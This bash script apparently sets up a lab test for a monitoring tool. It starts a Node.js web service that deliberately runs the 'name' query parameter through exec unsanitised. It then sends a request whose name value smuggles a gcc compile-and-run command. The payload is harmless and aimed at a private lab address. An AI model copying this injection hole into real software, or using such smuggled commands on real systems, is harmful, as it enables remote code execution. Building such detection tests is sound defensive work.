#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=unexpected-child half=report tool=node,gcc far=desk,out seconds=720 parts=dns,outside-web recorder=/usr/bin/node ticks=1000ms
# Eleven minutes after its start a name in a question makes the recorder's web service, in node, compile and run what came with it.
if [ "$1" = out ]; then sleep 1; exit 0; fi
if [ "$1" = desk ]; then
	for pause in 20 200 200; do sleep $pause; curl -s --max-time 5 'http://10.30.0.2:8000/?name=gate' >/dev/null; done
	sleep 260; curl -s --max-time 10 --data-binary 'int puts(const char *); int main(void) { return puts("ran") < 0; }' "http://10.30.0.2:8000/?name=x%3Bgcc%20-x%20c%20-o%20$LAB/x%20-%20%26%26%20$LAB/x" >"$LAB/answer"; exit 0
fi
cat >"$LAB/web.js" <<'END'
// A page as recorders have them: a name is looked for among its own, and given to a program when it is not.
const http = require("http"), { exec } = require("child_process");
http.createServer((q, r) => {
	const name = new URL(q.url, "http://x").searchParams.get("name");
	if (name === "gate") return r.end("ok\n");
	q.pipe(exec("echo " + name, (e, out) => r.end(out)).stdin);
}).listen(8000, "10.30.0.2");
END
timeout 715 node "$LAB/web.js"
grep -q ran "$LAB/answer"
